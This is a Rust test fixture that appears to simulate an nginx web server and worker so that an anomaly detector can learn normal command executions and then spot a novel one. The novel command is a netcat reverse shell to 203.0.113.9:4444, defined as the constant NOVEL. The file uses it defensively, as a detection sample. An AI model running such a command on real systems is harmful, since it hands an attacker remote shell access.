//! The machine that tests and `examples/falco/try-it` tell of: a web server that always does the same, until it does not.

use std::io;
use std::time::Duration;

use crate::scap::{Capture, Descriptor, Exec, Task};

/// The web server's process.
pub const NGINX: u32 = 700;
/// A worker of it, which starts what the server starts.
pub const WORKER: u32 = 701;
/// The web server's workload.
pub const WORKLOAD: &str = "nginx.service";
/// How many executions a workload is learned from, for `learn_executions`.
pub const LEARN_EXECUTIONS: u32 = 60;
/// How long it is learned, for `learn_for`.
pub const LEARN_FOR: &str = "30s";

/// What the worker normally runs.
pub const NORMAL: [&str; 4] = [
    "/usr/bin/date +%s",
    "/usr/bin/stat -c %s /var/log/nginx/access.log",
    "/usr/bin/gzip -9 /var/log/nginx/access.log.1",
    "/usr/bin/find /var/cache/nginx -mmin +60",
];

/// What it has never run.
pub const NOVEL: &str = "nc -e /bin/sh 203.0.113.9 4444";

/// What runs when the capture begins.
pub fn machine() -> Vec<Task> {
    let file = |path: &str| Descriptor::File(path.to_owned());
    let server = Task::new(NGINX, 1, "/usr/sbin/nginx")
        .in_cgroup("/system.slice/nginx.service")
        .with_descriptor(0, file("/dev/null"))
        .with_descriptor(1, file("/var/log/nginx/access.log"))
        .with_descriptor(2, file("/var/log/nginx/error.log"));
    let worker = Task { pid: WORKER, tid: WORKER, ppid: NGINX, ..server.clone() }.owned_by(33);
    vec![server, worker]
}

/// Lets the worker do what it normally does, once a second, until that is known.
///
/// # Errors
/// Where the capture cannot be written.
pub fn learn(capture: &mut Capture) -> io::Result<()> {
    for line in NORMAL.iter().cycle().take(LEARN_EXECUTIONS as usize + 20) {
        capture.run_and_exit(WORKER, &Exec::line(line))?;
        capture.advance(Duration::from_secs(1));
    }
    Ok(())
}
